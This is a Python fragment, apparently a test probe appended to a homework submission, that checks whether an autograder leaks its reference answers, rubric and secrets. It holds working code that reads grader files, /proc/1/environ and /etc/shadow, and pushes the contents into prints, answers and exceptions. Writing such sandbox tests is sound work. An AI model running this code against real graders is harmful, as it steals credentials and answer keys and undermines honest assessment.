# Reading the reference, the rubric, hidden data and other files, by import and from
# disk, and leaking them into the feedback: prints, exception messages, answers.
# Anything found also flips q2c_pourquoi to a wrong answer (the score check sees it).
import os as _os

_CIBLES = [
    "__RACINE__/source/reference/functions.py", "__RACINE__/source/autograder/rubric.yaml",
    "__RACINE__/source/reference/jeton_secret.txt", "__RACINE__/submission_metadata.json",
    "__RACINE__/results/results.json", "__DEPOT__/reference/functions.py",
    "__DEPOT__/autograder/rubric.yaml", "__DEPOT__/examples/submissions/full_marks/devoir3.py",
    "/autograder/source/autograder/rubric.yaml", "/autograder/submission_metadata.json",
    "/proc/1/environ", "/proc/self/../1/cwd/autograder/rubric.yaml", "/etc/shadow",
]
_TROUVE = []


def _lire(path):
    try:
        with open(path, errors="replace") as f:
            _TROUVE.append(path + ": " + f.read(3000))
    except (OSError, ValueError):
        pass


def _fouiller():
    for d in ("__RACINE__/source/.cache/answers", "__DEPOT__/.cache/answers"):   # the reference answers' cache
        try:
            _TROUVE.append(d + " : " + " ".join(_os.listdir(d)))
            for name in _os.listdir(d):
                _lire(_os.path.join(d, name))
        except OSError:
            pass
    for p in _CIBLES:
        _lire(p)
    for name in ("reference", "autograder", "autograder.rubric", "reference.functions"):
        try:
            __import__(name)
            _TROUVE.append("import " + name)
        except BaseException:
            pass
    import time
    fin = time.monotonic() + 1.5
    vus = 0
    for top in ("/", "/tmp", "/work", "/autograder", "/proc"):
        for dirpath, dirnames, filenames in _os.walk(top):
            vus += 1
            if vus > 20000 or time.monotonic() > fin:
                return
            dirnames[:] = [d for d in dirnames if d not in ("sys", "dev")]
            for name in filenames:
                if name in ("rubric.yaml", "jeton_secret.txt", "submission_metadata.json", "results.json") \
                        or name.startswith("answers-"):
                    _lire(_os.path.join(dirpath, name))


_fouiller()
print("TROUVÉ :", _TROUVE)


_q2c_juste = q2c_pourquoi      # the full-marks answer, defined above in the appended file


def q2c_pourquoi():
    if _TROUVE:
        return "A" + " | ".join(_TROUVE)[:400]
    return _q2c_juste()


def q2l_derivee_hs_j(grad_oa, W2, j):
    raise ValueError("fuite : " + " | ".join(_TROUVE)[:400])
